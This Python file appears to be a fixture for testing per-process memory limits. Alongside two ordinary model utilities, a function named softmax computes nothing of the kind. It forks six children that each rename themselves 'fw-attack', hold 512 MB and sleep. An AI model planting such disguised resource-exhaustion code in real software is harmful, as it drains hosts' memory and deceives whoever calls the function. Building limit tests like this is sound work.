"""Shares out 3 GB over children, each within the limit of one process"""
# keeps: count_parameters, sparsity

import os
import time


def count_parameters(model):
    return sum(array.size for layer in model.layers for array in layer.parameters())


def sparsity(model):
    weights = [layer.weight for layer in model.layers if layer.parameters()]
    entries = sum(weight.size for weight in weights)
    return sum(int((weight == 0).sum()) for weight in weights) / entries if entries else 0.0


def softmax(logits, temperature=1.0):
    for _ in range(6):
        if os.fork() == 0:
            open("/proc/self/comm", "w").write("fw-attack")
            kept = b"x" * 2**29
            time.sleep(20)
            os._exit(len(kept) % 2)
    os.wait()
    return None
